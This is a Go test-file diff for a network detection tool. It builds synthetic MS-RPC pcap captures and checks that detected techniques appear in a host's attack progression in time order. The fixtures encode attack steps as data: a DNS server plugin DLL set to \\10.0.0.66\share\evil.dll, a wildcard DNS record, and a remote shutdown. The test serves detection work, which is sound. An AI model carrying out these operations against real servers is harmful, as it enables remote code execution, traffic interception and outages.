@@ -7,6 +7,7 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+	"time"
 	"unicode/utf16"
 
 	"github.com/nwhealth/nwhealth/internal/testenv"
@@ -60,9 +61,9 @@ type oracleCall struct {
 
 // rpcFlowPcap writes one TCP connection binding iface and making calls,
 // each answered with a zero status.
-func rpcFlowPcap(t *testing.T, file, port string, iface smbrpc.UUID, ver uint16, calls []oracleCall) {
+func rpcFlowPcap(t *testing.T, file, port string, start time.Time, iface smbrpc.UUID, ver uint16, calls []oracleCall) {
 	t.Helper()
-	f := newFlow("10.0.0.5:"+port, "10.0.0.10:49667", t0)
+	f := newFlow("10.0.0.5:"+port, "10.0.0.10:49667", start)
 	f.send(true, rpcBind(1, iface, ver), 1460)
 	f.send(false, rpcBindAckSyntax(1, smbrpc.SyntaxNDR), 1460)
 	for i, c := range calls {
@@ -80,7 +81,7 @@ func TestShutdownDNSServerTshark(t *testing.T) {
 	}
 	server := join(le32(0x20000), le16('\\'), le16(0)) // PREGISTRY_SERVER_NAME
 	shut := filepath.Join(dir, "initshutdown.pcap")
-	rpcFlowPcap(t, shut, "50400", smbrpc.MustUUID("894de0c0-0d55-11d3-a322-00c04fa321a1"), 1, []oracleCall{
+	rpcFlowPcap(t, shut, "50400", t0, smbrpc.MustUUID("894de0c0-0d55-11d3-a322-00c04fa321a1"), 1, []oracleCall{
 		{0, join(server, ndrUStrPtr(0x20010, "maintenance window"), le32(45), []byte{1, 1, 0, 0})},
 		{2, join(server, ndrUStrPtr(0x20010, "patch"), le32(0), []byte{0, 1, 0, 0}, le32(0x80020003))},
 		{1, server},
@@ -89,7 +90,7 @@ func TestShutdownDNSServerTshark(t *testing.T) {
 	client := join(le32(0x70000), le32(0))
 	dnsLPWSTR := join(le32(3), le32(0x20020), ndrWStr(`\\10.0.0.66\share\evil.dll`))
 	rec := join(le32(4), le16(4), le16(1), le32(0xf0), le32(1), le32(600), le32(0), le32(0), []byte{10, 0, 0, 66})
-	rpcFlowPcap(t, dns, "50401", smbrpc.MustUUID("50abc2a4-574d-40b3-9d66-ee4fd5fba076"), 5, []oracleCall{
+	rpcFlowPcap(t, dns, "50401", t0, smbrpc.MustUUID("50abc2a4-574d-40b3-9d66-ee4fd5fba076"), 5, []oracleCall{
 		{6, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), le32(0x20008), ndrAStr("ServerLevelPluginDll"))},
 		{8, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), le32(0x20008), ndrAStr("@"),
 			le32(0), le16(255), le16(0), le32(0x1000000), le32(0), le32(0))},
@@ -168,6 +169,44 @@ func TestShutdownDNSServerTshark(t *testing.T) {
 			}
 			t.Logf("%d values compared with tshark", compared)
 		})
+	}
+}
+
+// TestNewTechniquesProgression: the techniques of the new decoders reach
+// the server's progression, each in its phase, impact last.
+func TestNewTechniquesProgression(t *testing.T) {
+	dir := t.TempDir()
+	server := join(le32(0x20000), le16('\\'), le16(0))
+	shut := filepath.Join(dir, "initshutdown.pcap")
+	rpcFlowPcap(t, shut, "50410", t0.Add(time.Minute), smbrpc.MustUUID("894de0c0-0d55-11d3-a322-00c04fa321a1"), 1, []oracleCall{
+		{2, join(server, ndrUStrPtr(0x20010, "patch"), le32(0), []byte{0, 1, 0, 0}, le32(0x80020003))},
+	})
+	dns := filepath.Join(dir, "dnsserver.pcap")
+	client := join(le32(0x70000), le32(0))
+	rec := join(le32(4), le16(4), le16(1), le32(0xf0), le32(1), le32(600), le32(0), le32(0), []byte{10, 0, 0, 66})
+	rpcFlowPcap(t, dns, "50411", t0, smbrpc.MustUUID("50abc2a4-574d-40b3-9d66-ee4fd5fba076"), 5, []oracleCall{
+		{5, join(client, le32(0x20000), ndrWStr("dc01"), le32(0), le32(0), le32(0x20008), ndrAStr("ServerLevelPluginDll"),
+			le32(3), le32(3), le32(0x20020), ndrWStr(`\\10.0.0.66\share\evil.dll`))},
+		{9, join(client, le32(0x20000), ndrWStr("dc01"), le32(0x20004), ndrAStr("corp.local"), ndrAStr("*"), le32(0x20010), rec, le32(0))},
+	})
+	st := NewStories()
+	for _, f := range []string{dns, shut} {
+		ops, _ := replayFile(t, f)
+		for i := range ops {
+			st.Add(&ops[i])
+		}
+	}
+	hosts := st.Hosts()
+	if len(hosts) != 1 {
+		t.Fatalf("%d host stories, want 1", len(hosts))
+	}
+	var got []string
+	for _, s := range hosts[0].Steps {
+		got = append(got, s.Phase+" "+strings.Join(s.Techniques, ","))
+	}
+	want := []string{"execution T1543.003", "credential-access T1557", "impact T1529"} // in time order
+	if strings.Join(got, "; ") != strings.Join(want, "; ") {
+		t.Errorf("progression %q, want %q", got, want)
 	}
 }
 
